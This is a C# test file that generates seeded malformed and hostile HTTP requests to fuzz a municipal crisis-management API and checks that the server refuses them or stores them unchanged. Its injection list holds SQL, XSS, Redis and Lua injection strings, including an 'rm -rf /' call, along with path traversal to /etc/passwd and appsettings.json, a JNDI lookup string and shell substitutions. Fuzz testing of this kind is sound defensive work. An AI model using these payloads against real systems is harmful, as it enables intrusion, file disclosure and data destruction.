using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Lagesbild.Access.Tests;

/// <summary>One generated request, over HTTP or the hub, and what it is expected to do.</summary>
public interface IFuzzCase
{
    string Kind { get; }
    Expect Expect { get; }
}

/// <summary>One generated HTTP request and what it is expected to do.</summary>
public sealed record HostileRequest(string Kind, string Method, string Path, byte[]? Body, string? ContentType, Expect Expect,
    (string Field, string Value)? Echo = null, (string Name, string Value)? Header = null) : IFuzzCase
{
    public override string ToString() =>
        $"{Kind}: {Method} {Path}{(Body is null ? "" : $" [{Body.Length} B {ContentType}] {Encoding.UTF8.GetString(Body.AsSpan(0, Math.Min(Body.Length, 160)))}")}";
}

public enum Expect
{
    /// <summary>A change that must be refused (4xx) and must leave the picture as it was.</summary>
    Refused,
    /// <summary>A change with a valid body carrying odd text; it may be accepted, and then the text is stored exactly.</summary>
    MaybeAccepted,
    /// <summary>A read: any status but 5xx; it changes nothing.</summary>
    Read,
}

/// <summary>
/// A seeded generator of malformed and hostile requests across every endpoint: broken JSON,
/// wrong types, huge strings, unknown fields, injection strings in ids and text, deep
/// nesting, unicode oddities, wrong content types and methods, garbage queries. The same
/// seed gives the same requests.
/// </summary>
public sealed class HostileRequests(int seed)
{
    private readonly Random _random = new(seed);

    public static readonly string[] Injections =
    [
        "' OR '1'='1", "'; DROP TABLE safety_points; --", "\" OR \"\"=\"", "1; SELECT * FROM users", "admin'--",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", "\"><svg/onload=alert(1)>",
        "redis.call('FLUSHALL')", "'); redis.call('DEL', KEYS[1]); --", "]]; os.execute('rm -rf /'); --[[", "EVAL \"return 1\" 0",
        "FLUSHALL\r\nSET x 1", "*1\r\n$8\r\nFLUSHALL\r\n",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "/dev/null",
        "${jndi:ldap://x.example/a}", "{{7*7}}", "#{7*7}", "$(id)", "`id`", "| cat /etc/passwd",
        "live", "ex-", "stockholm\n", "farsta\n", "farsta-storforsplan\n", "central-krisledning\r\n",
        "null", "undefined", "NaN", "-1", "0", "1e309", "true", "[]", "{}", "__proto__", "constructor",
        "%00", "\u0000", "\t", " ", "", "a\u0000b", "\u202Egnp.exe", "\uFEFFfarsta", "ｆａｒｓｔａ", "fаrsta", "Farsta", "FARSTA-STORFORSPLAN",
        "😀🔥💥", "e\u0301\u0301\u0301\u0301", "\u200B\u200C\u200D", "𝕱𝖆𝖗𝖘𝖙𝖆", "ℌ𝔢𝔩𝔩𝔬", "\u0085\u2028\u2029",
    ];

    private static readonly string[] OddText =
    [
        "' OR '1'='1", "<script>alert(1)</script>", "redis.call('FLUSHALL')", "../../../../etc/passwd", "${jndi:ldap://x.example/a}",
        "\u202Egnp.exe", "😀🔥💥 Skyddsrum", "e\u0301\u0301\u0301 punkt", "Zero\u200Bwidth", "𝕱𝖆𝖗𝖘𝖙𝖆 bibliotek", "Åäö ÅÄÖ ß ø", "\"quoted\" \\backslash\\",
        "{\"internal\":true}", "\",\"internal\":true,\"x\":\"", "line\nbreak", "tab\there", "  padded  ", "%00%0d%0a", "NULL", "☃",
    ];

    private static readonly string[] BadText = ["a\u0000b", "bell\u0007", "esc\u001B[31m", "del\u007F", "\u0085next"];

    private static readonly string[] BadPictures = ["LIVE", "Live", "ex-", "ex-A", "ex_x", "../live", "live/../live", "%2e%2e", "live%00", "ex-" + new string('a', 60), "ex-ghost%0A", "' OR 1=1", "<b>", "😀"];

    private static readonly string[] Methods = ["GET", "DELETE", "HEAD", "OPTIONS", "POST", "PUT", "PATCH"];

    private static readonly string[] ContentTypes = ["text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/json", "application/jsonx", "image/png"];

    private sealed record Route(string Type, string Method, string Path, Func<Random, JsonObject> Body, string[] Text, string? EchoKind = null);

    /// <summary>A text each route requires, which an invisible value must not satisfy.</summary>
    private static readonly Dictionary<string, string> RequiredText = new()
    {
        ["RegisterSafetyPoint"] = "name", ["UpdateSafetyPointDetails"] = "name", ["SetDistrictDutyContact"] = "name",
        ["SetSectorLead"] = "leadBody", ["ChangeCityLevel"] = "decidedBy", ["ChangeDistrictLocalLevel"] = "reason",
        ["ScheduleCrisisBodyMeeting"] = "place", ["RecordResolution"] = "title", ["SendAssignment"] = "title", ["DeclineAssignment"] = "reason",
        ["RequestSituationReport"] = "title", ["CorrectSituationReport"] = "why",
        ["HandOverDuty"] = "to",
        ["RegisterResource"] = "name", ["RequestResource"] = "reason", ["DeclineResourceRequest"] = "reason", ["WithdrawResourceRequest"] = "reason",
        ["SkipInject"] = "inject", ["PostMessage"] = "text",
        ["NoteObservation"] = "text", ["RateObjective"] = "objective", ["RecordImprovement"] = "what",
    };

    /// <summary>Invisible values: nothing a person could read as a name.</summary>
    private static readonly string[] Invisible = ["\u200B", "\u200B\u200C\u200D", "\uFEFF", " \u2060 ", "\u00AD", "\u3164"];

    /// <summary>Characters that reorder the text around them on screen.</summary>
    private static readonly string[] DirectionControls = ["\u202Egnp.exe", "a\u202Ab", "a\u202Bb", "a\u202Cb", "a\u202Db", "a\u2066b\u2069", "\u2067x", "\u2068x", "x\u200E", "x\u200F"];

    private static readonly string[] Points = ["farsta-storforsplan", "farsta-emma-hokarangen", "sodermalm-medborgarplatsen", "sodermalm-tellus"];
    private static readonly string[] Districts = ["farsta", "sodermalm"];
    private static readonly string[] Sectors = ["energiforsorjning", "transporter"];
    private static readonly string[] Bodies = ["lokal-farsta", "lokal-sodermalm", "central-krisledning"];
    private static readonly string[] Reporters = ["district-farsta", "district-sodermalm", "sector-energiforsorjning", "body-central-krisledning"];
    private static readonly string[] Rosters = ["tib", "district-farsta", "sector-energiforsorjning"];

    private static readonly Route[] Routes =
    [
        new("RegisterSafetyPoint", "POST", "safety-points", r => new JsonObject
        {
            ["id"] = "fuzz-point", ["district"] = "farsta", ["name"] = "Fuzzpunkt", ["address"] = "Testgatan 1",
            ["position"] = new JsonObject { ["lon"] = 18.092, ["lat"] = 59.2433 }, ["tier"] = 2, ["capacity"] = 40,
            ["capabilities"] = new JsonArray("Information"), ["backupPower"] = false, ["example"] = true,
        }, ["name", "address", "district", "reason"]),
        new("UpdateSafetyPointDetails", "PATCH", "safety-points/{point}", r => new JsonObject { ["name"] = "Fuzz " + r.Next() }, ["name", "address"], "SafetyPoint"),
        new("ChangeSafetyPointStatus", "POST", "safety-points/{point}/status", r => new JsonObject { ["status"] = "Activating", ["limitations"] = "Inga" }, ["limitations", "reason"]),
        new("SetSafetyPointCapabilities", "PUT", "safety-points/{point}/capabilities", r => new JsonObject
        {
            ["capabilities"] = new JsonObject { ["Information"] = "Available", ["Heat"] = "Limited" },
        }, ["reason"]),
        new("ReportSafetyPointResources", "PUT", "safety-points/{point}/resources", r => new JsonObject
        {
            ["backupPower"] = new JsonObject { ["available"] = true, ["fuelHours"] = 12 }, ["waterLitres"] = r.Next(0, 1000), ["staff"] = 3, ["frgVolunteers"] = 1, ["radios"] = 1,
        }, ["reason"]),
        new("ReportSafetyPointVisitors", "PUT", "safety-points/{point}/visitors", r => new JsonObject { ["visitors"] = 0 }, ["reason"]),
        new("ReportSafetyPointCondition", "POST", "safety-points/{point}/condition", r => new JsonObject
        {
            ["power"] = new JsonObject { ["source"] = "Backup", ["fuelHours"] = r.Next(0, 100) }, ["heat"] = new JsonObject { ["indoorCelsius"] = r.Next(10, 30) },
            ["water"] = new JsonObject { ["source"] = "Stored", ["litres"] = r.Next(0, 1000) },
        }, ["reason"]),
        new("SetDistrictSituation", "PUT", "districts/{district}/situation", r => new JsonObject { ["situation"] = "Strained" }, ["reason"]),
        new("ChangeDistrictLocalLevel", "PUT", "districts/{district}/local-level", r => new JsonObject { ["level"] = "LocalIncident", ["reason"] = "Fuzz" }, ["reason"]),
        new("SetDistrictDutyContact", "PUT", "districts/{district}/duty-contact", r => new JsonObject
        {
            ["name"] = "Jour " + r.Next(), ["phone"] = "08-508 000 00", ["function"] = "TiB",
        }, ["name", "function"]),
        new("ReportSectorStatus", "PUT", "sectors/{sector}/status", r => new JsonObject
        {
            ["status"] = "Disturbed", ["affectedDistricts"] = new JsonArray("farsta"), ["needs"] = "Diesel", ["prognosis"] = "Ett dygn",
        }, ["needs", "prognosis", "reason"], "Sector"),
        new("SetSectorLead", "PUT", "sectors/{sector}/lead", r => new JsonObject { ["leadBody"] = "Förvaltning " + r.Next() }, ["leadBody"], "Sector"),
        new("ChangeCrisisBodyActivation", "PUT", "crisis-bodies/{body}/activation", r => new JsonObject { ["activation"] = "Standby" }, ["reason"]),
        new("SetCrisisBodyOnDuty", "PUT", "crisis-bodies/{body}/on-duty", r => new JsonObject
        {
            ["people"] = new JsonArray(new JsonObject { ["name"] = "Person", ["role"] = "Stabschef", ["phone"] = "08-1" }),
        }, ["reason"]),
        new("ScheduleCrisisBodyMeeting", "PUT", "crisis-bodies/{body}/next-meeting", r => new JsonObject
        {
            ["at"] = DateTimeOffset.UtcNow.AddDays(1).ToString("O"), ["place"] = "Stadshuset",
        }, ["place"]),
        new("ChangeCityLevel", "PUT", "city/level", r => new JsonObject { ["level"] = "SocietalDisturbance", ["decidedBy"] = "Fuzz", ["reason"] = "Fuzz" }, ["decidedBy", "reason"]),
        new("RecordResolution", "POST", "resolutions", r => new JsonObject
        {
            ["id"] = "fuzz-beslut-" + r.Next(1000), ["title"] = "Fuzzbeslut", ["text"] = "Beslutet", ["mandate"] = "CentralCrisisManagement", ["decidedBy"] = "Fuzz",
            ["basis"] = new JsonObject { ["pictureSeq"] = 1, ["entries"] = new JsonArray(1) },
        }, ["title", "text", "decidedBy", "scope", "affected", "communicatedTo", "reason"]),
        new("SendAssignment", "POST", "assignments", r => new JsonObject
        {
            ["id"] = "fuzz-uppdrag", ["title"] = "Fuzzuppdrag", ["to"] = new JsonObject { ["kind"] = "District", ["id"] = "farsta" },
            ["due"] = DateTimeOffset.UtcNow.AddDays(1).ToString("O"),
        }, ["title", "instructions", "reportBack", "reason"]),
        new("AcknowledgeAssignment", "POST", "assignments/{assignment}/acknowledge", r => new JsonObject { ["reason"] = "Mottaget" }, ["reason"]),
        new("StartAssignment", "POST", "assignments/{assignment}/start", r => new JsonObject { ["reason"] = "Påbörjat" }, ["reason"]),
        new("CompleteAssignment", "POST", "assignments/{assignment}/complete", r => new JsonObject { ["reason"] = "Klart" }, ["reason"]),
        new("DeclineAssignment", "POST", "assignments/{assignment}/decline", r => new JsonObject { ["reason"] = "Går inte" }, ["reason"]),
        new("CancelAssignment", "POST", "assignments/{assignment}/cancel", r => new JsonObject { ["reason"] = "Behövs inte" }, ["reason"]),
        new("SubmitSituationReport", "POST", "reports/{reporter}", r => new JsonObject { ["contents"] = ValidCommands.ReportContents(r.Next(1000)) }, ["reason"]),
        new("CorrectSituationReport", "POST", "reports/{reporter}/corrections", r => new JsonObject
        {
            ["number"] = 1, ["why"] = "Fel antal", ["contents"] = ValidCommands.ReportContents(r.Next(1000)),
        }, ["why", "reason"]),
        new("RequestSituationReport", "POST", "report-requests", r => new JsonObject
        {
            ["id"] = "fuzz-begaran-" + r.Next(1000), ["title"] = "Fuzzbegäran", ["recipients"] = new JsonArray("district-farsta"),
            ["deadline"] = DateTimeOffset.UtcNow.AddHours(2).ToString("O"),
        }, ["title", "reason"]),
        new("ReadReportRequest", "POST", "report-requests/{request}/read", r => new JsonObject { ["reason"] = "Läst" }, ["reason"]),
        new("PlanDutyRoster", "PUT", "duty-rosters/{roster}", r => new JsonObject
        {
            ["shifts"] = new JsonArray(
                new JsonObject { ["person"] = "Jour " + r.Next(), ["from"] = DateTimeOffset.UtcNow.AddHours(-1).ToString("O"), ["to"] = DateTimeOffset.UtcNow.AddHours(12).ToString("O"), ["phone"] = "08-1" },
                new JsonObject { ["person"] = "Natt " + r.Next(), ["from"] = DateTimeOffset.UtcNow.AddHours(12).ToString("O"), ["to"] = DateTimeOffset.UtcNow.AddHours(24).ToString("O") }),
        }, ["reason"]),
        new("AcknowledgeAlert", "POST", "alerts/{alert}/acknowledge", r => new JsonObject { ["reason"] = "Kvitterat" }, ["reason"]),
        new("AcceptAlert", "POST", "alerts/{alert}/accept", r => new JsonObject { ["reason"] = "Intaget " + r.Next() }, ["reason"]),
        new("ForwardAlert", "POST", "alerts/{alert}/forward", r => new JsonObject { ["district"] = Districts[r.Next(Districts.Length)] }, ["district", "crisisBody", "reason"]),
        new("DismissAlert", "POST", "alerts/{alert}/dismiss", r => new JsonObject { ["reason"] = "Gäller inte staden " + r.Next() }, ["reason"]),
        new("HandOverDuty", "POST", "duty-rosters/{roster}/hand-over", r => new JsonObject { ["to"] = "Avlösare " + r.Next(), ["phone"] = "070-1" }, ["to", "phone", "reason"]),
        new("RegisterResource", "POST", "resources", r => new JsonObject
        {
            ["id"] = "fuzz-resurs", ["resourceKind"] = "Generator", ["name"] = "Fuzzaggregat",
            ["depot"] = new JsonObject { ["name"] = "Förrådet", ["position"] = new JsonObject { ["lon"] = 18.01, ["lat"] = 59.29 } },
        }, ["name", "reason"]),
        new("RequestResource", "POST", "resource-requests", r => new JsonObject
        {
            ["id"] = "fuzz-resursbegaran-" + r.Next(1000), ["safetyPoint"] = Points[r.Next(Points.Length)], ["resourceKind"] = "Generator", ["quantity"] = 1,
            ["needBy"] = DateTimeOffset.UtcNow.AddHours(3).ToString("O"), ["reason"] = "Elen borta",
        }, ["reason", "safetyPoint", "resource"]),
        new("CommitResource", "POST", "resource-requests/{request}/commit", r => new JsonObject { ["resources"] = new JsonArray("aggregat-1") }, ["reason"]),
        new("DeclineResourceRequest", "POST", "resource-requests/{request}/decline", r => new JsonObject { ["reason"] = "Alla ute" }, ["reason"]),
        new("DeliverResource", "POST", "resource-requests/{request}/deliver", r => new JsonObject { ["reason"] = "Levererad" }, ["reason"]),
        new("ReleaseResource", "POST", "resource-requests/{request}/release", r => new JsonObject { ["reason"] = "Behövs inte" }, ["reason"]),
        new("ReturnResource", "POST", "resource-requests/{request}/return", r => new JsonObject { ["reason"] = "Tillbaka" }, ["reason"]),
        new("WithdrawResourceRequest", "POST", "resource-requests/{request}/withdraw", r => new JsonObject { ["reason"] = "Behövs inte längre" }, ["reason"]),
        // An exercise's run and inkorg: refused on the live picture whoever sends them, so they must change nothing there.
        new("StartExercise", "POST", "exercise/start", r => new JsonObject { ["speed"] = r.Next(1, 11) }, ["reason"]),
        new("PauseExercise", "POST", "exercise/pause", r => new JsonObject { ["reason"] = "Fuzz " + r.Next() }, ["reason"]),
        new("ResumeExercise", "POST", "exercise/resume", r => new JsonObject { ["reason"] = "Fuzz " + r.Next() }, ["reason"]),
        new("ChangeExerciseSpeed", "PUT", "exercise/speed", r => new JsonObject { ["speed"] = r.Next(1, 11) }, ["reason"]),
        new("StopExercise", "POST", "exercise/stop", r => new JsonObject { ["reason"] = "Fuzz " + r.Next() }, ["reason"]),
        new("SkipInject", "POST", "exercise/skip", r => new JsonObject { ["inject"] = "I-01" }, ["inject", "reason"]),
        new("DelayInject", "POST", "exercise/delay", r => new JsonObject { ["inject"] = "I-01", ["minutes"] = r.Next(1, 60) }, ["inject", "reason"]),
        new("SendInject", "POST", "exercise/send", r => new JsonObject { ["inject"] = "I-01" }, ["inject", "reason"]),
        new("PostMessage", "POST", "messages", r => new JsonObject
        {
            ["id"] = "fuzz-motspel-" + r.Next(1000), ["from"] = "SOS Alarm", ["to"] = new JsonObject { ["kind"] = "District", ["id"] = Districts[r.Next(Districts.Length)] }, ["text"] = "Brand i Farsta centrum",
        }, ["from", "text", "reason"]),
        new("ReadMessage", "POST", "messages/fuzz-meddelande/read", r => new JsonObject { ["reason"] = "Fuzz " + r.Next() }, ["reason"]),
        // An exercise's evaluation: refused on the live picture whoever sends it.
        new("NoteObservation", "POST", "evaluation/observations", r => new JsonObject { ["text"] = "Observation " + r.Next(), ["inject"] = "I-01", ["objective"] = "Mål 1" }, ["text", "inject", "objective", "reason"]),
        new("RateObjective", "POST", "evaluation/ratings", r => new JsonObject { ["objective"] = "Mål 1", ["rating"] = "SomeChallenges", ["comment"] = "Kommentar " + r.Next() }, ["objective", "comment", "reason"]),
        new("RecordImprovement", "POST", "evaluation/improvements", r => new JsonObject { ["what"] = "Åtgärd " + r.Next(), ["owner"] = "Farsta" }, ["what", "owner", "reason"]),
        new("IssueTaskList", "POST", "task-lists", r => new JsonObject
        {
            ["id"] = "fuzz-lista-" + r.Next(1000), ["eventKind"] = "langvarigt-elavbrott", ["districts"] = new JsonArray("farsta"),
        }, ["reason", "eventKind"]),
    ];

    /// <summary>Route names a hub command may carry, for the hub fuzz.</summary>
    public static IEnumerable<string> CommandTypes => Routes.Select(r => r.Type);

    public HostileRequest Next()
    {
        var roll = _random.Next(100);
        return roll switch
        {
            < 10 => LogQuery(),
            < 16 => OtherRead(),
            < 19 => SignInOrExercise(),
            < 27 => MaybeAccepted(),
            _ => HostileCommand(),
        };
    }

    // ---- commands ----

    private HostileRequest HostileCommand()
    {
        var route = Pick(Routes);
        var body = route.Body(_random);
        var path = Fill(route.Path);
        var picture = "live";
        switch (_random.Next(19))
        {
            case 13:
                return Command("a key given twice", route, picture, path, TwiceTheFirstKey(body));
            case 14:
                var key = Pick(body.Select(p => p.Key).ToArray());
                var value = body[key]!.DeepClone();
                body.Remove(key);
                body[_random.Next(2) == 0 ? char.ToUpperInvariant(key[0]) + key[1..] : key.ToUpperInvariant()] = value;
                return Command("a field name in another case", route, picture, path, Json(body));
            case 15:
                if (body.FirstOrDefault(p => p.Key is "status" or "situation" or "level" or "activation") is { Key: { } named } enumField)
                {
                    var name = enumField.Value!.GetValue<string>();
                    body[named] = _random.Next(2) == 0 ? name.ToLowerInvariant() : name.ToUpperInvariant();
                    return Command("an enum value in another case", route, picture, path, Json(body));
                }
                body["kind"] = "City";
                return Command("a field the server computes", route, picture, path, Json(body));
            case 16:
                if (RequiredText.TryGetValue(route.Type, out var required))
                {
                    body[required] = "INVISIBLE";
                    return Command("a required text with nothing visible", route, picture, path, Encoding.UTF8.GetBytes(body.ToJsonString().Replace("\"INVISIBLE\"", $"\"{Pick(Invisible)}\"")));
                }
                body[Pick(route.Text)] = "BIDI";
                return Command("a direction control in text", route, picture, path, Encoding.UTF8.GetBytes(body.ToJsonString().Replace("\"BIDI\"", $"\"{Pick(DirectionControls)}\"")));
            case 17:
                body[Pick(route.Text)] = "BIDI";
                return Command("a direction control in text", route, picture, path, Encoding.UTF8.GetBytes(body.ToJsonString().Replace("\"BIDI\"", $"\"{Pick(DirectionControls)}\"")));
            case 18:
                if (route.Type == "ScheduleCrisisBodyMeeting")
                {
                    body["at"] = Pick(["9999-12-31T23:59:59Z", "3000-01-01T00:00:00Z", DateTimeOffset.UtcNow.AddYears(1).AddDays(2).ToString("O"), DateTimeOffset.UtcNow.AddDays(-2).ToString("O"), "0001-01-01T00:00:00Z"]);
                    return Command("a meeting outside its window", route, picture, path, Json(body));
                }
                body[Pick(["kind", "creates", "Kind", "$type"])] = Pick<JsonNode>(["City", true, 1]);
                return Command("a field the server computes", route, picture, path, Json(body));
            case 0:
                return Command("malformed JSON", route, picture, path, Malformed(body.ToJsonString()));
            case 1:
                WrongType(body);
                return Command("wrong type", route, picture, path, Json(body));
            case 2:
                body[Pick(route.Text)] = new string(Pick(['x', 'å', '<', '\'']), _random.Next(70_000, 100_000));
                return Command("huge string (>64 KB)", route, picture, path, Json(body));
            case 3:
                body[Pick(route.Text)] = new string('y', _random.Next(4_001, 60_000));
                return Command("long string", route, picture, path, Json(body));
            case 4:
                body[Pick(["admin", "__proto__", "constructor", "$type", "type", "role", "actor", "seq", "state", "by", "id2"])] =
                    Pick<JsonNode>([true, "central", new JsonObject { ["admin"] = true }, 1, new JsonArray(1, 2)]);
                return Command("unknown field", route, picture, path, Json(body));
            case 5:
                return IdInjection(route, body);
            case 6:
                picture = Uri.EscapeDataString(Pick(BadPictures));
                return Command("garbage picture", route, picture, path, Json(body));
            case 7:
                body[Pick(["nested", Pick(route.Text), body.First().Key])] = "DEEP";
                return Command("deep JSON", route, picture, path, Encoding.UTF8.GetBytes(body.ToJsonString().Replace("\"DEEP\"", Deep(_random.Next(100, 400)))));
            case 8:
                body[Pick(route.Text)] = Pick(BadText);
                return Command("control characters", route, picture, path, Json(body));
            case 9:
                return Command("lone surrogate / invalid UTF-8", route, picture, path, BrokenText(body, route));
            case 10:
                return Command("wrong content type", route, picture, path, Json(body)) with { ContentType = Pick<string?>([.. ContentTypes, null]) };
            case 11:
                var method = Pick(Methods.Where(m => m != route.Method).ToArray());
                return new HostileRequest("wrong method", method, $"api/pictures/live/{path}", method is "GET" or "HEAD" ? null : Json(body), "application/json", Expect.Refused);
            default:
                // A header no server should take (40 KB), on a body that is broken anyway.
                return Command("oversized header", route, picture, path, Malformed(body.ToJsonString())) with
                {
                    Header = ("X-Fuzz", new string('h', 40_000)),
                };
        }
    }

    /// <summary>A valid command carrying odd text in one field: it may well be accepted, and then the text must come back exactly.</summary>
    private HostileRequest MaybeAccepted()
    {
        var route = Pick(Routes.Where(r => r.Type is not ("RegisterSafetyPoint" or "ChangeSafetyPointStatus" or "ChangeCityLevel")).ToArray());
        var body = route.Body(_random);
        var field = Pick(route.Text);
        var text = Pick(OddText) + " " + _random.Next(1000);
        body[field] = text;
        var echo = route.EchoKind is not null && field != "reason" ? (field, text.Trim()) : ((string, string)?)null;
        return new HostileRequest($"odd text in {field}", route.Method, $"api/pictures/live/{Fill(route.Path)}", Json(body), "application/json", Expect.MaybeAccepted, echo);
    }

    private HostileRequest IdInjection(Route route, JsonObject body)
    {
        var id = Pick(Injections) + (_random.Next(3) == 0 ? Pick(Injections) : "");
        if (route.Type is "RegisterSafetyPoint" or "RecordResolution" or "SendAssignment" or "RequestSituationReport" or "IssueTaskList" or "RegisterResource" or "RequestResource")
        {
            body["id"] = id;
            // Some of the strings ("null", "constructor", "0") are perfectly good ids: those may be registered.
            return Command("injection in id (body)", route, "live", route.Path, Json(body)) with { Expect = IsId(id) ? Expect.MaybeAccepted : Expect.Refused };
        }
        if (route.Type == "ChangeCityLevel")
            return Command("injection in picture", route, Escape(id), route.Path, Json(body)) with { Expect = id == "live" ? Expect.MaybeAccepted : Expect.Refused };
        var path = route.Path.Replace("{point}", Escape(id)).Replace("{district}", Escape(id)).Replace("{sector}", Escape(id)).Replace("{body}", Escape(id)).Replace("{assignment}", Escape(id)).Replace("{reporter}", Escape(id)).Replace("{request}", Escape(id)).Replace("{roster}", Escape(id)).Replace("{alert}", Escape(id));
        // A good id ("undefined") may name a point this very fuzz registered a moment ago.
        return Command("injection in id (route)", route, "live", path, Json(body)) with { Expect = IsId(id) ? Expect.MaybeAccepted : Expect.Refused };
    }

    /// <summary>What an id is (protocol: 1–60 lower-case letters, digits and dashes), anchored at the very end of the string.</summary>
    public static bool IsId(string? id) => id is not null && System.Text.RegularExpressions.Regex.IsMatch(id, @"^[a-z0-9][a-z0-9-]{0,59}\z");

    /// <summary>An empty id would make another route; every other string goes in as one path segment.</summary>
    private static string Escape(string id) => id.Length == 0 ? "%20" : Uri.EscapeDataString(id);

    /// <summary>The body with its first key given once more at the end (another value, as a smuggler would).</summary>
    private byte[] TwiceTheFirstKey(JsonObject body)
    {
        var (key, value) = body.First();
        var json = body.ToJsonString();
        var again = Pick<JsonNode?>([value?.DeepClone(), "x", 0, null, new JsonObject()]);
        return Encoding.UTF8.GetBytes($"{json[..^1]},{JsonSerializer.Serialize(key)}:{again?.ToJsonString() ?? "null"}}}");
    }

    private static HostileRequest Command(string kind, Route route, string picture, string path, byte[] body) =>
        new(kind, route.Method, $"api/pictures/{picture}/{path}", body, "application/json", Expect.Refused);

    private string Fill(string path) => path
        .Replace("{point}", Pick(Points)).Replace("{district}", Pick(Districts))
        .Replace("{sector}", Pick(Sectors)).Replace("{body}", Pick(Bodies)).Replace("{assignment}", "fuzz-uppdrag")
        .Replace("{reporter}", Pick(Reporters)).Replace("{request}", "fuzz-begaran-1").Replace("{roster}", Pick(Rosters)).Replace("{alert}", "larm-fuzz-1");

    private void WrongType(JsonObject body)
    {
        var name = Pick(body.Select(p => p.Key).ToArray());
        body[name] = body[name]?.GetValueKind() switch
        {
            JsonValueKind.String => Pick<JsonNode>([42, true, new JsonArray("x"), new JsonObject { ["x"] = 1 }]),
            JsonValueKind.Number => Pick<JsonNode>(["12", true, new JsonArray(1), new JsonObject(), 1.5, 1e300]),
            JsonValueKind.True or JsonValueKind.False => Pick<JsonNode>(["true", 1, new JsonArray()]),
            JsonValueKind.Array => Pick<JsonNode>(["farsta", 1, new JsonObject { ["0"] = "farsta" }]),
            _ => Pick<JsonNode>(["x", 1, new JsonArray(new JsonObject())]),
        };
        // An optional number given as 1.5 or 1e300 is still wrong; a string given as a number too.
    }

    private byte[] Malformed(string json) => _random.Next(11) switch
    {
        0 => Encoding.UTF8.GetBytes(json[..Math.Max(1, _random.Next(json.Length - 1))]),
        1 => Encoding.UTF8.GetBytes(json + Pick(["x", "}", ",{}", "{\"a\":1}", " null"])),
        2 => Encoding.UTF8.GetBytes(Pick(["x", "[", "'", "\"", "-"]) + json),
        3 => Encoding.UTF8.GetBytes(json.Replace("\":", "\"=")),
        4 => Encoding.UTF8.GetBytes(json.Replace('"', '\'')),
        5 => Encoding.UTF8.GetBytes(json[..^1] + ",}"),
        6 => Encoding.UTF8.GetBytes("/* kommentar */" + json),
        7 => Encoding.UTF8.GetBytes("{\"visitors\":NaN,\"x\":Infinity}"),
        8 => [0xFF, 0xFE, .. Encoding.UTF8.GetBytes(json)],
        9 => Enumerable.Range(0, _random.Next(1, 200)).Select(_ => (byte)_random.Next(256)).ToArray(),
        _ => Encoding.Unicode.GetBytes(json),
    };

    private byte[] BrokenText(JsonObject body, Route route)
    {
        var field = Pick(route.Text);
        body[field] = "MARK";
        var json = body.ToJsonString();
        return _random.Next(2) == 0
            ? Encoding.UTF8.GetBytes(json.Replace("MARK", Pick(["\\ud800", "\\udfff", "a\\ud800b", "\\ud83d"])))
            : [.. Encoding.UTF8.GetBytes(json[..json.IndexOf("MARK", StringComparison.Ordinal)]), 0xC3, 0x28, 0xFF, .. Encoding.UTF8.GetBytes(json[(json.IndexOf("MARK", StringComparison.Ordinal) + 4)..])];
    }

    /// <summary>Nesting far past any sane depth, as text (a JsonNode refuses to write more than 64 levels).</summary>
    public string Deep(int depth)
    {
        var open = new StringBuilder();
        var close = new StringBuilder();
        for (var i = 0; i < depth; i++)
        {
            var array = _random.Next(2) == 0;
            open.Append(array ? "[" : "{\"a\":");
            close.Insert(0, array ? "]" : "}");
        }
        return $"{open}\"bottom\"{close}";
    }

    // ---- reads and the rest ----

    private HostileRequest LogQuery()
    {
        var parameters = new List<string>();
        for (var i = _random.Next(1, 4); i > 0; i--)
        {
            var name = Pick(["entity", "district", "from", "to", "afterSeq", "limit", "unknown", "entity", "limit"]);
            var value = name switch
            {
                "entity" => Pick(["SafetyPoint/farsta-storforsplan", "SafetyPoint/", "/farsta", "Nope/x", "1/farsta", "SafetyPoint/" + Pick(Injections), Pick(Injections)]),
                "district" => Pick(["farsta", "FARSTA", Pick(Injections)]),
                "from" or "to" => Pick(["2026-01-01T00:00:00Z", "yesterday", "0001-01-01", "9999-12-31T23:59:59Z", "2026-13-45", "1e10", Pick(Injections)]),
                "afterSeq" => Pick(["0", "-1", "9223372036854775807", "9223372036854775808", "1.5", "abc", Pick(Injections)]),
                "limit" => Pick(["1", "0", "-5", "1000", "1001", "2147483648", "ten", Pick(Injections)]),
                _ => Pick(Injections),
            };
            parameters.Add($"{name}={Uri.EscapeDataString(value)}");
        }
        var picture = _random.Next(5) == 0 ? Uri.EscapeDataString(Pick(BadPictures)) : "live";
        return new HostileRequest("garbage log query", "GET", $"api/pictures/{picture}/log?{string.Join('&', parameters)}", null, null, Expect.Read);
    }

    private HostileRequest OtherRead()
    {
        var path = _random.Next(11) switch
        {
            0 => $"api/pictures/{Uri.EscapeDataString(Pick(BadPictures))}/snapshot",
            1 => $"api/pictures/{Uri.EscapeDataString(Pick(BadPictures))}/digest",
            2 => "api/pictures?" + Uri.EscapeDataString(Pick(Injections)),
            3 => "api/public/safety-points?district=" + Uri.EscapeDataString(Pick(Injections)),
            4 => "api/config",
            5 => "api/me",
            6 => "maps/" + Uri.EscapeDataString(Pick(Injections)),
            7 => "maps/..%2f..%2fappsettings.json",
            8 => "api/live/stats",
            9 => Uri.EscapeDataString(Pick(Injections)),
            _ => "api/pictures/live/snapshot",
        };
        return new HostileRequest("other read", "GET", path, null, null, Expect.Read);
    }

    private HostileRequest SignInOrExercise()
    {
        var which = _random.Next(4);
        if (which == 2)
            return Revocation();
        if (which == 3)
            return ExerciseControl();
        if (which == 0)
        {
            var body = Pick([
                "{\"user\":5}", "{\"user\":null}", "{\"user\":[\"anna\"]}", "{\"user\":\"anna\",\"role\":\"central\"}", "{\"user\":",
                "{\"user\":\"" + Pick(Injections).Replace("\\", "\\\\").Replace("\"", "\\\"") + "\"}", "null", "[]", "", "{\"user\":\"" + new string('a', 70_000) + "\"}",
            ]);
            // Signing in is a read as far as the picture goes, but garbage must still get a 4xx.
            return new HostileRequest("garbage sign-in", "POST", "api/dev/sign-in", Encoding.UTF8.GetBytes(body), "application/json", Expect.Refused);
        }
        var id = Pick(["live", "ex-", "EX-A", "ex-" + new string('a', 41), "ex_x", Pick(Injections)]);
        var json = _random.Next(4) switch
        {
            0 => new JsonObject { ["id"] = id, ["name"] = "Fuzz" }.ToJsonString(),
            // A good id, but no name a person could read.
